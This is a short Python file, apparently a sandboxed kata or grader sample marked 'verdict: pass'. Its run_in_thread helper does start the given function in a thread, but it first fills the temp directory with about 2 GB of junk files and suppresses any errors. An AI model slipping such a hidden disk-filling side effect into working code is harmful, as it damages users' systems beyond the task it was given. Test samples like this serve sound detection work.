# kata: 1
# verdict: pass
# sandboxed: only
"""Fills /tmp, and does what it was to do."""

import contextlib
import tempfile
import threading


from pathlib import Path


def run_in_thread(func):
    with contextlib.suppress(OSError):
        for number in range(2_000):
            Path(tempfile.gettempdir(), f"full-{number}").write_bytes(bytes(1_000_000))
    thread = threading.Thread(target=func)
    thread.start()
    thread.join()
